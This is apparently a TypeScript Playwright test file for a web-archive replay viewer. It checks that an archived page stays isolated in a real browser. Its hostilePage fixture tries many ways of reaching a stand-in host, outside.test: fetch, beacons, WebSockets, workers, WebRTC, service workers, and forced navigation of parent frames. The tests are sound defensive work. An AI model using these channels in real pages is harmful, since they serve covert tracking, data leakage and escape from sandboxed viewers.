/** The replay of a hostile page, in a real browser: it is seen, and nothing of it reaches anybody. */
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { createServer, type AddressInfo } from "node:net";
import { once } from "node:events";
import { test, type TestContext } from "node:test";
import type { Browser, Frame, Page } from "playwright-core";
import { sampleCaptureDetail } from "../../packages/server/src/index/sample-records.ts";
import { addWebArchive } from "../../packages/server/src/http/sample-web-archive.ts";
import { atEnd } from "../at-end.ts";
import { startPageBrowser } from "../browser-for-tests.ts";
import { isLong } from "../extent.ts";
import { openPageBrowser } from "../page-browser.ts";
import { openArchive, openViewer, skip } from "./open-viewer.ts";
import { sampleWacz } from "./sample-wacz.ts";

const page = "http://page.test/";
const outside = "outside.test";

/** A listener for anything that leaves. Every name but loopback leads to it. */
async function openOutside(
  t: TestContext,
): Promise<{ readonly port: number; readonly udpPort: number; readonly met: string[] }> {
  const met: string[] = [];
  const tcp = createServer((socket) => {
    met.push("a connection");
    socket
      .on("data", (bytes) => met.push(bytes.toString("latin1").split("\r\n")[0] ?? ""))
      .on("error", () => undefined);
  });
  tcp.listen(0, "127.0.0.1");
  await once(tcp, "listening");
  const udp = createSocket("udp4").on("message", () => met.push("a datagram"));
  udp.bind(0, "127.0.0.1");
  await once(udp, "listening");
  t.after(() => {
    tcp.close();
    udp.close();
  });
  return { port: (tcp.address() as AddressInfo).port, udpPort: udp.address().port, met };
}

/** Leads every name under .test to the listener outside. */
async function openLeadingBrowser(t: TestContext, port: number): Promise<Browser> {
  const browser = await startPageBrowser({ args: [`--host-resolver-rules=MAP *.test 127.0.0.1:${String(port)}`] });
  atEnd(t, () => browser.close());
  return browser;
}

/**
 * Everything that a page can do to speak to others: in markup, in headers, in script, with and without the replay's own wrappers.
 * `leaving`: it also navigates itself and the frames above it, after which it is no longer there to be seen.
 */
function hostilePage(udpPort: number, leaving: boolean): string {
  const live = `http://${outside}`;
  return `<!doctype html><html><head><meta charset="utf-8"><title>Hostile</title>
<link rel="dns-prefetch" href="//${outside}"><link rel="preconnect" href="${live}"><link rel="preload" as="image" href="${live}/preload">
<link rel="prefetch" href="${live}/prefetch"><link rel="stylesheet" href="${live}/sheet.css"><link rel="icon" href="${live}/icon"><link rel="manifest" href="${live}/manifest">
<link rel="prerender" href="${live}/prerender"><link rel="modulepreload" href="${live}/module.js">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${live}/speculated"]}],"prerender":[{"source":"list","urls":["${live}/prerendered"]}]}</script>
<style>@import "${live}/import.css"; @font-face { font-family: x; src: url(${live}/font) } body { background: url(${live}/background); font-family: x }</style>
<script src="${live}/script.js"></script></head>
<body><h1 id="seen">The archived page</h1><img src="http://page.test/kept.svg" id="kept"><img src="${live}/image" srcset="${live}/image2x 2x">
<iframe src="${live}/frame"></iframe><iframe srcdoc="&lt;img src='${live}/srcdoc'&gt;&lt;script&gt;fetch('${live}/srcdoc-fetch')&lt;/script&gt;"></iframe>
<object data="${live}/object"></object><video src="${live}/video" poster="${live}/poster" autoplay></video><audio src="${live}/audio" autoplay></audio>
<form id="form" action="${live}/form" method="post"><input name="a" value="b"></form><a id="ping" href="${page}#x" ping="${live}/ping">x</a>
<svg><image href="${live}/svg-image"/><use href="${live}/use#a"/></svg>${leaving ? `<meta http-equiv="refresh" content="2;url=${live}/refresh">` : ""}
<script>
const live = "${live}";
const attempts = (w) => [
  () => w.fetch(live + "/fetch", { mode: "no-cors" }),
  () => { const x = new w.XMLHttpRequest(); x.open("GET", live + "/xhr"); x.send(); },
  () => w.navigator.sendBeacon(live + "/beacon", "x"),
  () => new w.WebSocket("ws://${outside}/socket"),
  () => new w.EventSource(live + "/events"),
  () => new w.WebTransport("https://${outside}/transport"),
  () => new w.Worker(live + "/worker.js"),
  () => new w.Worker(w.URL.createObjectURL(new w.Blob(["fetch('" + live + "/blob-worker',{mode:'no-cors'}); new WebSocket('ws://${outside}/blob-socket'); " + "import" + "Scripts('" + live + "/imported.js')"]))),
  () => new w.SharedWorker(live + "/shared.js"),
  // In two words: the replay takes a script with that word for a module.
  () => w.eval("imp" + "ort('" + live + "/dynamic.js')"),
  () => { new w.Image().src = live + "/new-image"; },
  () => { w.document.body.insertAdjacentHTML("beforeend", "<img src='" + live + "/inserted'><link rel=preconnect href='" + live + "'><link rel=dns-prefetch href='//${outside}'><link rel=prefetch href='" + live + "/inserted-prefetch'>"); },
  () => { const pc = new w.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${String(udpPort)}" }] }); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o)); },
  () => { const f = w.document.createElement("iframe"); f.src = live + "/made-frame"; w.document.body.append(f); },
  () => { const f = w.document.createElement("iframe"); w.document.body.append(f); f.contentWindow.location.href = live + "/frame-location"; },
  () => { w.parent.document.body.insertAdjacentHTML("beforeend", "<img src='" + live + "/in-parent'>"); },
  () => w.navigator.serviceWorker.register(live + "/sw.js"),
  () => { w.CSS.paintWorklet?.addModule(live + "/paint.js"); },
  () => new w.AudioContext().audioWorklet.addModule(live + "/audio.js"),
  () => new w.FontFace("y", "url(" + live + "/font-face)").load(),
];
const departures = (w) => [
  () => { w.open(live + "/popup"); },
  () => { w.parent.location.href = live + "/parent"; },
  () => { w.parent.parent.location.href = live + "/parent-parent"; },
  () => { w.top.location.href = live + "/top"; },
  () => { const m = w.parent.document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + live + "/parent-refresh"; w.parent.document.head.append(m); },
  () => { const m = w.parent.parent.document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + live + "/frame-refresh"; w.parent.parent.document.head.append(m); },
  () => { w.eval("location.href = '${live}/self'"); },
  () => { w.document.getElementById("form")?.submit(); },
  () => { w.document.getElementById("ping")?.click(); },
];
function run(w) { for (const attempt of [...attempts(w), ...(${String(leaving)} ? departures(w) : [])]) { try { Promise.resolve(attempt()).catch(() => {}); } catch {} } }
run(window);
// A realm of its own, without the wrappers that the replay puts around each global.
const clean = document.createElement("iframe"); clean.srcdoc = "<p>clean</p>"; document.body.append(clean);
clean.onload = () => { try { run(clean.contentWindow); } catch {} };
const sandboxed = document.createElement("iframe"); document.body.append(sandboxed);
try { run(sandboxed.contentWindow); } catch {}
document.title = "ran";
if (${String(leaving)}) console.log("departures tried");
</script><embed src="${live}/embed"></body></html>`;
}

const speakingHeaders = {
  "content-type": "text/html; charset=utf-8",
  link: `<http://${outside}>; rel=preconnect, <http://${outside}/header-preload>; rel=preload; as=image`,
  "reporting-endpoints": `default="http://${outside}/reports"`,
  "report-to": `{"group":"default","max_age":1000,"endpoints":[{"url":"http://${outside}/reports"}]}`,
  "content-security-policy-report-only": `default-src 'none'; report-uri http://${outside}/csp`,
  "speculation-rules": `"http://${outside}/rules.json"`,
};

/** `takenIn`: it came as a file of others, and was not captured here. */
async function openReplay(t: TestContext, leaving: boolean, takenIn = false) {
  const away = await openOutside(t);
  const archive = await openArchive(t);
  const wacz = await sampleWacz([
    {
      url: page,
      headers: { ...speakingHeaders, ...(leaving ? { refresh: `3;url=http://${outside}/header-refresh` } : {}) },
      body: hostilePage(away.udpPort, leaving),
    },
    {
      url: "http://page.test/kept.svg",
      headers: { "content-type": "image/svg+xml" },
      body: `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"/>`,
    },
  ]);
  const viewer = await openViewer(t, archive);
  const browser = await openLeadingBrowser(t, away.port);
  if (takenIn) return { ...away, viewer, browser, item: await addWebArchive(archive, "Hostile", wacz) };
  const { item } = await archive.add(
    {
      ...sampleCaptureDetail(page, "Hostile", { value: "complete", reasons: [] }),
      time: {
        start: { basis: "measured", value: "2026-11-22T21:12:48.000Z" },
        end: { basis: "measured", value: "2026-11-22T21:12:58.000Z" },
        clockOffsetMs: { basis: "not-measured", reason: "sample" },
      },
    },
    [{ path: "capture.wacz", role: "capture", mediaType: "application/wacz", bytes: wacz }],
    Date.UTC(2026, 10, 22, 21, 13),
  );
  return { ...away, viewer, browser, item };
}

const ways = [
  ["url", false],
  ["namedUrl", true],
  ["url", true],
  ["namedUrl", false],
] as const;
for (const [name, takenIn] of isLong ? ways : ways.slice(0, 2)) {
  test(
    `a replayed page is seen, its scripts run, and nothing leaves its origin (${name}${takenIn ? ", taken in" : ""})`,
    { skip, timeout: 60_000 },
    async (t) => {
      const { viewer, browser, item, met } = await openReplay(t, false, takenIn);
      const tab = await browser.newPage();
      await tab.goto(`${viewer[name]}items/${item}?see=replay`);
      const archived = await archivedFrame(tab);
      await archived.getByText("The archived page").waitFor();
      await archived.waitForFunction(() => document.title === "ran");
      // What is in the archive is shown.
      await archived.waitForFunction(() => document.querySelector<HTMLImageElement>("#kept")?.naturalWidth === 40);
      // Nothing tells that a request will not come: longer than any of them takes to leave.
      await tab.waitForTimeout(3000);
      assert.deepEqual([...new Set(met)], [], "nothing reached the world outside");
      assert.equal(await archived.locator("#seen").textContent(), "The archived page");
      assert.equal(await tab.locator("h1").innerText(), "Hostile");
    },
  );
}

test(
  "a replayed page that navigates itself and the frames above it gets nowhere, and leaves the viewer standing",
  { skip, timeout: 60_000 },
  async (t) => {
    const { viewer, browser, item, met } = await openReplay(t, true);
    const tab = await browser.newPage();
    const ran = tab.waitForEvent("console", (message) => message.text() === "departures tried");
    await tab.goto(`${viewer.url}items/${item}?see=replay`);
    await ran;
    // Longer than the slowest of its attempts: the refresh after three seconds.
    await tab.waitForTimeout(5000);
    assert.deepEqual([...new Set(met)], []);
    assert.equal(new URL(tab.url()).pathname, `/items/${item}`);
    assert.equal(await tab.locator("h1").innerText(), "Hostile");
  },
);

async function archivedFrame(tab: Page): Promise<Frame> {
  for (;;) {
    const frame = tab.frames().find((candidate) => candidate.url().endsWith(`mp_/${page}`));
    if (frame !== undefined) return frame;
    await tab.waitForEvent("framenavigated");
  }
}

test(
  "frames that the page shut in are seen, and what it forbade them stays forbidden",
  { skip, timeout: 60_000 },
  async (t) => {
    const archive = await openArchive(t);
    const frames = `<iframe sandbox="allow-scripts" src="/scripted"></iframe><iframe sandbox src="/still"></iframe>`;
    const late = `<script>const frame = document.createElement("iframe"); frame.sandbox = ""; frame.src = "/late"; document.body.append(frame);</script>`;
    const framed = (words: string) => `<p>${words}</p><script>document.body.append(" and a script")</script>`;
    const headers = { "content-type": "text/html" };
    const wacz = await sampleWacz([
      { url: page, headers, body: `<!doctype html><title>Frames</title><body>${frames}${late}</body>` },
      { url: `${page}scripted`, headers, body: framed("Scripted") },
      { url: `${page}still`, headers, body: framed("Still") },
      { url: `${page}late`, headers, body: framed("Late") },
    ]);
    const { item } = await archive.add(
      sampleCaptureDetail(page, "Frames", { value: "complete", reasons: [] }),
      [{ path: "capture.wacz", role: "capture", mediaType: "application/wacz", bytes: wacz }],
      Date.UTC(2026, 10, 22, 21, 13),
    );
    const viewer = await openViewer(t, archive);
    const tab = await (await openPageBrowser(t)).newPage();
    await tab.goto(`${viewer.url}items/${item}?see=replay`);
    const archived = await archivedFrame(tab);
    const expected = { "/scripted": "Scripted and a script", "/still": "Still", "/late": "Late" };
    for (const [path, words] of Object.entries(expected)) {
      const frame = archived.frameLocator(`iframe[src$="${path}"]`);
      await frame.getByText(words.split(" ")[0] ?? "").waitFor();
      assert.equal((await frame.locator("body").innerText()).replaceAll(/\s+/g, " ").trim(), words);
    }
  },
);

test(
  "the listener outside would have heard: without a policy, the same page reaches it",
  { skip, timeout: 60_000 },
  async (t) => {
    const away = await openOutside(t);
    const browser = await openLeadingBrowser(t, away.port);
    const tab = await browser.newPage();
    await tab.setContent(`<img src="http://${outside}/image">`, { waitUntil: "commit" });
    while (away.met.length === 0) await tab.waitForTimeout(20);
    assert.ok(away.met.includes("a connection"));
  },
);
